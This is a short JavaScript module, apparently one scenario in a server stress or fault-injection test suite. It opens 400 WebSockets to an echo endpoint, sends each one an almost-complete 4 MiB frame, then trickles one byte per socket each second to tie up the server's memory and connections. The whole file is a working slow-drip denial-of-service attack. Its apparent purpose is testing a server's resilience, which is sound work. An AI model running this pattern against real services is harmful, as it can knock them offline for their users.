// @ts-check
// WebSocket messages that are nearly complete, then single bytes (fault M3).
import { setTimeout as rest } from "node:timers/promises";
import { BINARY, frameHead } from "../lib/attacker.js";

const SIZE = 4_194_304;
const PART = Buffer.concat([frameHead(BINARY, SIZE), Buffer.alloc(SIZE - 4096)]);

/** @type {import("../lib/attacker.js").Attack} */
export default {
  name: "unfinished-messages",
  about: "400 WebSockets, each with most of a message of 4 MiB, a byte more each second",
  async run(attacker) {
    /** @type {import("node:net").Socket[]} */
    const sockets = [];
    await attacker.many(400, async () => {
      const socket = await attacker.openWebSocket("/echo");
      attacker.send(socket, PART);
      sockets.push(socket);
      await rest(50);
    });
    while (!attacker.isOver) {
      for (const socket of sockets) attacker.send(socket, Buffer.alloc(1));
      await rest(1000);
    }
  },
};
